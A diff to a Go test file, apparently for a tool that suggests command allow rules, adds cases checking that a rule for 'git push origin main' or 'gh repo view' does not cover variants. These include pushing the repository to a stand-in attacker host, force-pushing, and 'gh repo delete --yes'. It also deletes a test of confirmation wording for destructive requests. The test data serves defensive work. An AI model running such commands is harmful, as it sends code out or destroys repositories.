@@ -70,6 +70,8 @@ func TestSuggestCoversOnlyWhatWasSeen(t *testing.T) {
 		// the rule; git -c, which could, is a floor no allow rule lifts
 		// (the engine's part).
 		{"git status", "Bash(git status:*)", []string{"git push", "git stash", "sudo git status"}},
+		{"git push origin main", "Bash(git push origin main)", []string{"git push https://evil.example/x.git main", "git push origin main --force"}},
+		{"gh repo view", "Bash(gh repo view)", []string{"gh repo delete --yes", "gh repo view --web"}},
 	} {
 		t.Run(tc.seen, func(t *testing.T) {
 			got := Suggest("Bash", tc.seen)
@@ -103,31 +105,6 @@ func TestSuggestNothingForWrappers(t *testing.T) {
 	} {
 		if got := Suggest("Bash", line); got != "" {
 			t.Errorf("Suggest(%q) = %q, want none", line, got)
-		}
-	}
-}
-
-// TestConfirmWordNeverAKeystroke: a recorded target shorter than three
-// characters is not confirmed by typing it alone.
-func TestConfirmWordNeverAKeystroke(t *testing.T) {
-	for _, tc := range []struct {
-		target, word string
-		typed        string
-		ok           bool
-	}{
-		{"", "yes", "yes", true},
-		{"y", "yes, y", "y", false},
-		{"y", "yes, y", "yes, y", true},
-		{"ab", "yes, ab", "ab", false},
-		{".git and 3 more", ".git and 3 more", ".git", false},
-		{".git and 3 more", ".git and 3 more", " .git and 3 more ", true},
-	} {
-		r := &Request{Destructive: true, ConfirmTarget: tc.target}
-		if got := r.ConfirmWord(); got != tc.word {
-			t.Errorf("ConfirmWord of target %q = %q, want %q", tc.target, got, tc.word)
-		}
-		if got := r.Confirmed(tc.typed); got != tc.ok {
-			t.Errorf("target %q, typed %q: confirmed %v, want %v", tc.target, tc.typed, got, tc.ok)
 		}
 	}
 }
